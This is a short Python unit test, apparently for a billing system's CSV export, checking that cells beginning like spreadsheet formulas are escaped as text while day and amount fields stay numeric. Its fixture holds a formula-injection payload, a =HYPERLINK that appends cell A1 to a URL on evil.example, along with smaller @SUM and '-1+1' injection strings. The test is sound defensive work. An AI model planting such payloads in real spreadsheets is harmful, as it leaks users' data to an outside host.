"""ADR 0027: the underlag's CSV cannot attack the spreadsheet finance opens it in: a ward's backdating reason or a
note that starts like a formula is written as text; the days and amounts stay numbers."""

import csv
import io

from billing.adapters.specification import SPEC_COLUMNS, specification_csv


def test_hostile_text_cells_are_neutralised_and_numbers_are_kept():
    row = dict.fromkeys(SPEC_COLUMNS, "")
    row |= {
        "stay_id": "S1",
        "days": -3,
        "stay_ready_days": "-23 100,00",
        "backdating_reason": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "note": "@SUM(A1:A9)",
        "opened_by_event": "-1+1",
    }
    [written] = list(csv.DictReader(io.StringIO(specification_csv([row]))))
    assert written["backdating_reason"] == "'" + row["backdating_reason"]
    assert written["note"] == "'@SUM(A1:A9)"
    assert written["opened_by_event"] == "'-1+1"
    assert (written["stay_id"], written["days"], written["stay_ready_days"]) == ("S1", "-3", "-23 100,00")
